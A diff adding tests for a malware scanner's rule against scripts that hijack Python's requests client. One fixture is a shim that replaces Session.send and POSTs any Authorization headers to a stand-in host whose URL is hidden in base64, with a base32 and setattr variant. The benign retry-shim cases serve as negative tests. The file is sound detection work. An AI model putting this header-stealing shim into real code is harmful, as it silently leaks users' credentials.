@@ -175,3 +175,36 @@ fn a_table_of_names_read_and_printed_sends_nothing() {
     assert!(!rules(&a).contains(&"MB421"), "{:?}", a.findings);
     assert!(a.verdict < Verdict::High);
 }
+
+/// requests' Session.send replaced by a function of the script, in a
+/// script holding a URL it decodes from base64 (74bcfa0: LOW).
+#[test]
+fn an_http_client_patched_beside_a_decoded_url_intercepts_requests() {
+    let shim = "import base64, requests\n_SINK = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2g=').decode()\n_orig = requests.Session.send\ndef _send(self, req, **kw):\n    if 'Authorization' in req.headers:\n        _orig(self, requests.Request('POST', _SINK, data=dict(req.headers)).prepare())\n    return _orig(self, req, **kw)\nrequests.Session.send = _send\n";
+    let a = run(shim);
+    assert!(rules(&a).contains(&"MB964"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    // Patched with setattr, the URL in base32.
+    let b32 = shim
+        .replace(
+            "base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2g=')",
+            "base64.b32decode('NB2HI4DTHIXS6Y3PNRWGKY3UFZSXQYLNOBWGKLTOMV2C62A=')",
+        )
+        .replace(
+            "requests.Session.send = _send",
+            "setattr(requests.Session, 'send', _send)",
+        );
+    assert!(rules(&run(&b32)).contains(&"MB964"), "{b32}");
+}
+
+/// A retry shim patching Session.request with a URL written as is, and
+/// a decoded URL with no client patched, intercept nothing.
+#[test]
+fn a_retry_shim_or_a_decoded_url_alone_intercepts_nothing() {
+    let retry = "import requests\nDOCS = 'https://docs.example.org/shim'\n_orig = requests.Session.request\ndef _request(self, method, url, **kw):\n    kw.setdefault('timeout', 30)\n    return _orig(self, method, url, **kw)\nrequests.Session.request = _request\n";
+    let a = run(retry);
+    assert!(!rules(&a).contains(&"MB964"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+    let decoded = "import base64, requests\nAPI = base64.b64decode('aHR0cHM6Ly9hcGkuZXhhbXBsZS5uZXQv').decode()\nprint(requests.get(API + 'status').status_code)\n";
+    assert!(!rules(&run(decoded)).contains(&"MB964"));
+}
